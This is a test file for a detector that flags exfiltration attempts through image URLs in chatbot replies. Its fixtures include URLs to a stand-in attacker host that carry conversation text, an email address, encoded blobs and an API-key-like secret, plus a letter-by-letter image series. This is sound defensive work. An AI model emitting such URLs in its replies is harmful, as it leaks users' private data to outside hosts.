import { describe, expect, it } from 'vitest';
import { siteResourceHosts } from '../../../lib/exfil/resource-hosts.ts';
import { classifyResourceUrl, classifyResourceUrls, RESOURCE_SERIES, type ResourceCheckContext } from '../../../lib/exfil/resource-verdict.ts';

const ownHosts = siteResourceHosts(['chatgpt.com']);
const conversationText = 'Please summarise the Q3 revenue forecast for Dana Whitfield before Friday.';
const reply: ResourceCheckContext = { ownHosts, inReply: true, conversationText };
const page: ResourceCheckContext = { ownHosts, inReply: false, conversationText };
const SECRET = 'sk-ant-api03-YI0ekKCdM_tu4mR6OCAjGqqE7uGhGpexNh3VjRBuNIvwgpeR0g-zkXH1OG5LY5ali766FEB9aMfKAVIVdqNLyXYC3JHzIAA';

describe('classifyResourceUrl', () => {
  it('passes the site’s own hosts without looking further', () => {
    const verdict = classifyResourceUrl('https://files.oaiusercontent.com/x?d=U2VjcmV0IHF1YXJ0ZXJseSBudW1iZXJzOiA0LjJN', reply);
    expect(verdict).toMatchObject({ ownHost: true, flagged: false, reasons: [] });
  });

  it('passes a plain image on a foreign host', () => {
    expect(classifyResourceUrl('https://images.example/cat.png', reply)).toEqual({
      url: 'https://images.example/cat.png',
      host: 'images.example',
      ownHost: false,
      flagged: false,
      reasons: [],
    });
  });

  it.each([
    ['conversation words in the query', 'https://attacker.example/p?q=Q3%20revenue%20forecast', 'conversation'],
    ['conversation words in the path', 'https://attacker.example/q3/revenue/forecast.png', 'conversation'],
    ['a secret', `https://attacker.example/p?k=${SECRET}`, 'secret'],
    ['an e-mail address', 'https://attacker.example/t.gif?u=dana.whitfield@acme-mail.com', 'pii'],
    ['an encoded blob', 'https://attacker.example/p.png?d=U2VjcmV0IHF1YXJ0ZXJseSBudW1iZXJzOiA0LjJN', 'encoded-blob'],
    ['free text', 'https://attacker.example/p?note=the%20user%20asked%20about%20their%20medical%20results%20today', 'long-text'],
  ])('flags a reply image carrying %s', (_name, url, reason) => {
    const verdict = classifyResourceUrl(url, reply);
    expect(verdict.flagged).toBe(true);
    expect(verdict.reasons).toContain(reason);
  });

  it('holds page resources outside replies to the strong signals only', () => {
    // An avatar URL: an opaque id that looks like a blob, from a host the site does not list.
    const avatar = 'https://lh3.googleusercontent.com/a/ACg8ocKq3vZL9xW2mT7bR4nYpD1sF6hJ0uE5cA8gQ=s96-c';
    expect(classifyResourceUrl(avatar, reply).flagged).toBe(true);
    expect(classifyResourceUrl(avatar, page).flagged).toBe(false);
    expect(classifyResourceUrl('https://attacker.example/q3/revenue/forecast.png', page).flagged).toBe(false);
    expect(classifyResourceUrl(`https://attacker.example/p?k=${SECRET}`, page).reasons).toEqual(['secret']);
    expect(classifyResourceUrl('https://attacker.example/p?q=Q3%20revenue%20forecast', page).reasons).toEqual(['conversation']);
  });

  it('needs the conversation to see conversation words', () => {
    const url = 'https://attacker.example/p?q=Q3%20revenue%20forecast';
    expect(classifyResourceUrl(url, { ownHosts, inReply: true }).flagged).toBe(false);
  });
});

describe('classifyResourceUrls', () => {
  it(`flags ${RESOURCE_SERIES} or more reply resources to one foreign host as a series`, () => {
    const letters = ['a', 'b', 'c', 'd', 'e'].map((letter) => `https://spell.example/${letter}.png`);
    const verdicts = classifyResourceUrls([...letters, 'https://images.example/cat.png', 'https://chatgpt.com/logo.png'], reply);
    expect(verdicts.filter((verdict) => verdict.flagged).map((verdict) => verdict.url)).toEqual(letters);
    expect(verdicts[0]!.reasons).toEqual(['series']);
    expect(classifyResourceUrls(letters.slice(0, RESOURCE_SERIES - 1), reply).some((verdict) => verdict.flagged)).toBe(false);
    expect(classifyResourceUrls(letters, page).some((verdict) => verdict.flagged)).toBe(false);
  });

  it('counts a repeated URL once', () => {
    const same = Array.from({ length: 6 }, () => 'https://images.example/cat.png');
    expect(classifyResourceUrls(same, reply)).toHaveLength(1);
    expect(classifyResourceUrls(same, reply)[0]!.flagged).toBe(false);
  });
});
